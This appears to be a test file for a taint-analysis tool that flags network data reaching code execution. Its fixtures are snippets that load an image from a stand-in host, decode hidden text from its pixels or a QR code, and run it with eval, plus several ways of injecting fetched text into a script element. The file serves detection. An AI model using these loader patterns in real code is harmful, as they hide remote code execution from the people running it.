import { describe, expect, it } from 'vitest';
import type { Observation } from '../../../../src/analyze/index.js';
import { flows, follow } from '../sample.js';

const HOST = 'https://a.example/p.png';

function run(code: string): Observation | undefined {
  const result = follow(code);
  return flows(result, 'net.response', 'code.eval') ?? flows(result, 'net.response', 'dom.code');
}

const draw = (picture: string, then: string): string =>
  `const pen = document.createElement('canvas').getContext('2d'); pen.drawImage(${picture}, 0, 0); const text = decode(pen.getImageData(0, 0, 9, 9).data); ${then}`;

describe('what is read out of a picture is what its host answered', () => {
  it.each([
    ['after it came', `const p = new Image(); p.onload = () => { ${draw('p', 'eval(text)')} }; p.src = '${HOST}';`],
    [
      'of an element',
      `const p = document.createElement('img'); p.setAttribute('src', '${HOST}'); ${draw('p', 'eval(text)')}`,
    ],
    [
      'as a bitmap',
      `fetch('${HOST}').then((r) => r.blob()).then(createImageBitmap).then((p) => { ${draw('p', 'eval(text)')} })`,
    ],
    [
      'in Node',
      `const { loadImage } = require('canvas'); loadImage('${HOST}').then((p) => { ${draw('p', 'new Function(text)()')} })`,
    ],
    ['by a library', `require('qr-scanner').scanImage('${HOST}').then((text) => eval(text))`],
    [
      'by a reader',
      `const { BrowserQRCodeReader } = require('@zxing/browser'); new BrowserQRCodeReader().decodeFromImageUrl('${HOST}').then((r) => eval(r.text))`,
    ],
  ])('%s', (_, code) => {
    expect(run(`const decode = require('jsqr'); ${code}`)?.taints.map(({ detail }) => detail)).toContain(HOST);
  });

  it('but not of its own', () => {
    expect(
      run(`const decode = require('jsqr'); const p = new Image(); p.src = './p.png'; ${draw('p', 'eval(text)')}`),
    ).toBeUndefined();
  });
});

describe('text of a script element is code', () => {
  it.each([
    's.textContent = text',
    's.text = text',
    's.innerHTML = text',
    's.append(text)',
    's.appendChild(document.createTextNode(text))',
    's.src = URL.createObjectURL(new Blob([text]))',
    "s.src = 'data:text/javascript,' + encodeURIComponent(text)",
  ])('%s', (put) => {
    const code = `fetch('${HOST}').then((r) => r.text()).then((text) => { const s = document.createElement('script'); ${put}; document.head.append(s); })`;
    expect(run(code)).toBeDefined();
    expect(run(code.replace("'script'", "'p'"))).toBeUndefined();
  });
});
